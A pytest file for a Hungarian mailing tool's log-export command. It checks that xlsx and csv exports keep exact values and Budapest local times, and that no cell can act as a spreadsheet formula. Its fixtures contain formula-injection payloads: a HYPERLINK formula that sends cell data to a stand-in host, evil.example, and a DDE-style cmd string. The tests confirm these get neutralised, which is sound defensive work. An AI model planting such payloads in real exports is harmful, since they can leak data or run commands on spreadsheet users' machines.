"""``log export``: read back with openpyxl and with the csv module: the exact
columns and values, Budapest local times, and nothing Excel would run."""

from __future__ import annotations

import csv
import zipfile
from datetime import UTC, datetime

import openpyxl
import pytest
from typer.testing import CliRunner

import lgp_mailer.cli.status  # noqa: F401  (registers 'log export')
from lgp_mailer.cli import app
from lgp_mailer.errors import ConfigError
from lgp_mailer.ledger.export import HEADERS, STATUSES_HU, export_log, local_time, neutralise
from lgp_mailer.ledger.store import STATUSES, Entry, open_ledger

C = "lgp-2026-11-30-proba"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Kattints")'


class Clock:
    now = datetime(2026, 3, 29, 0, 30, tzinfo=UTC)  # 01:30 CET; DST starts at 02:00 → 03:00

    def __call__(self) -> datetime:
        return self.now


@pytest.fixture
def ledger(ledger_target):
    clock = Clock()
    ledger = open_ledger(ledger_target, clock=clock)
    ledger.sync(
        C,
        "invitation",
        [
            Entry("jegyzo@pecs.hu", 0, ("Pécs", "Kozármisleny"), "Baranya", "<a.1@lgp.example>"),
            Entry("=cmd@evil.hu", 1, (EVIL,), "+36 1 555 0100", "<b.2@lgp.example>"),
            Entry("polgarmester@orszentmiklos.hu", 2, ("@SUM(1+1)*cmd|' /C calc'!A0",), "-5", "<c.3@lgp.example>"),
            Entry("x@", 3, ("Tab",), "Somogy", None, "'x@' is not an address"),
        ],
    )
    assert ledger.claim(C, "invitation", "jegyzo@pecs.hu", ["pending"])
    ledger.record(C, "invitation", "jegyzo@pecs.hu", "deferred", 451, "4.3.0", "451 4.3.0 próbálja később")
    clock.now = datetime(2026, 3, 29, 1, 5, tzinfo=UTC)  # 03:05 CEST
    assert ledger.claim(C, "invitation", "jegyzo@pecs.hu", ["deferred"])
    ledger.record(C, "invitation", "jegyzo@pecs.hu", "sent", 250, "2.0.0", "250 2.0.0 OK")
    assert ledger.claim(C, "invitation", "=cmd@evil.hu", ["pending"])
    ledger.record(C, "invitation", "=cmd@evil.hu", "failed", 550, "5.1.1", "-550 5.1.1 <=cmd@evil.hu>: no such user")
    ledger.sync(C, "reminder", [Entry("jegyzo@pecs.hu", 0, ("Pécs",), "Baranya", "<r@lgp.example>")])
    yield ledger
    ledger.close()


EXPECTED = [
    (
        C,
        "Pécs; Kozármisleny",
        "Baranya",
        "jegyzo@pecs.hu",
        "meghívó",
        "elküldve",
        "<a.1@lgp.example>",
        2,
        "2026-03-29 01:30:00",
        "2026-03-29 03:05:00",
        "250 2.0.0 OK",
    ),
    (
        C,
        EVIL,
        "+36 1 555 0100",
        "=cmd@evil.hu",
        "meghívó",
        "sikertelen",
        "<b.2@lgp.example>",
        1,
        "2026-03-29 03:05:00",
        "2026-03-29 03:05:00",
        "-550 5.1.1 <=cmd@evil.hu>: no such user",
    ),
    (
        C,
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-5",
        "polgarmester@orszentmiklos.hu",
        "meghívó",
        "küldésre vár",
        "<c.3@lgp.example>",
        0,
        None,
        None,
        None,
    ),
    (C, "Tab", "Somogy", "x@", "meghívó", "hibás adat", None, 0, None, None, "'x@' is not an address"),
    (C, "Pécs", "Baranya", "jegyzo@pecs.hu", "emlékeztető", "küldésre vár", "<r@lgp.example>", 0, None, None, None),
]


def test_headers_and_status_values_are_fixed():
    assert HEADERS == (
        "Kampány",
        "Önkormányzat(ok)",
        "Megye",
        "E-mail-cím",
        "Levél típusa",
        "Állapot",
        "Message-ID",
        "Próbálkozások",
        "Első próbálkozás",
        "Utolsó próbálkozás",
        "Utolsó SMTP-válasz",
    )
    assert set(STATUSES_HU) == set(STATUSES) and len(set(STATUSES_HU.values())) == len(STATUSES)
    import lgp_mailer.ledger.export as module

    for header in HEADERS:  # the module docstring (copied to the README) documents every column and value
        assert f"| {header}" in module.__doc__
    for status, hungarian in STATUSES_HU.items():
        assert f"| `{status}`" in module.__doc__ and f"`{hungarian}`" in module.__doc__


def test_xlsx_read_back_exact_values_and_no_formulas(ledger, tmp_path):
    path = tmp_path / "naplo.xlsx"
    assert export_log(ledger, path) == 5
    book = openpyxl.load_workbook(path)
    sheet = book.active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == HEADERS
    assert rows[1:] == EXPECTED
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml  # not one formula element in the file


def test_csv_read_back_with_bom_semicolons_and_neutralised_cells(ledger, tmp_path):
    path = tmp_path / "naplo.csv"
    assert export_log(ledger, path, campaign_id=C) == 5
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfKamp\xc3\xa1ny;") and b"\r\n" in raw
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    assert rows[0] == list(HEADERS)

    def as_csv(values):
        return ["" if v is None else str(v) for v in values]

    expected = [as_csv(r) for r in EXPECTED]
    expected[1][1] = "'" + EVIL
    expected[1][2] = "'+36 1 555 0100"  # a phone number Excel would otherwise try to compute
    expected[1][3] = "'=cmd@evil.hu"
    expected[1][10] = "'-550 5.1.1 <=cmd@evil.hu>: no such user"
    expected[2][1] = "'@SUM(1+1)*cmd|' /C calc'!A0"
    expected[2][2] = "-5"  # a plain number is left alone: Excel reads it as a number, nothing runs
    assert rows[1:] == expected
    for row in rows[1:]:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value == "-5"


@pytest.mark.parametrize(
    "value, safe",
    [
        ("=1+1", "'=1+1"),
        ("+36 1 555 0100", "'+36 1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-5", "-5"),
        ("+36", "+36"),
        ("-3,5", "-3,5"),
        ("-3.5", "-3.5"),
        ("Pécs", "Pécs"),
        ("a=b", "a=b"),
        ("", ""),
        ("'=x", "'=x"),
    ],
)
def test_neutralise(value, safe):
    assert neutralise(value) == safe


def test_local_time_follows_budapest_summer_and_winter_time():
    assert local_time("2026-01-15T11:00:00.000000Z") == "2026-01-15 12:00:00"
    assert local_time("2026-07-15T11:00:00.000000Z") == "2026-07-15 13:00:00"
    assert local_time(None) == ""


def test_only_xlsx_or_csv(ledger, tmp_path):
    with pytest.raises(ConfigError, match=r"\.xlsx or \.csv"):
        export_log(ledger, tmp_path / "naplo.ods")


def test_log_export_through_the_cli(ledger, monkeypatch, tmp_path):
    monkeypatch.setenv("LGP_MAILER_DB", str(ledger.path))
    monkeypatch.chdir(tmp_path)
    runner = CliRunner()
    result = runner.invoke(app, ["log", "export", "ki.xlsx", "--kind", "reminder"])
    assert result.exit_code == 0, result.output
    assert "1 row written to ki.xlsx" in result.stdout
    rows = list(openpyxl.load_workbook(tmp_path / "ki.xlsx").active.iter_rows(values_only=True))
    assert rows == [HEADERS, EXPECTED[4]]
    bad = runner.invoke(app, ["log", "export", "ki.txt"])
    assert bad.exit_code == 2 and "must end in .xlsx or .csv" in bad.output
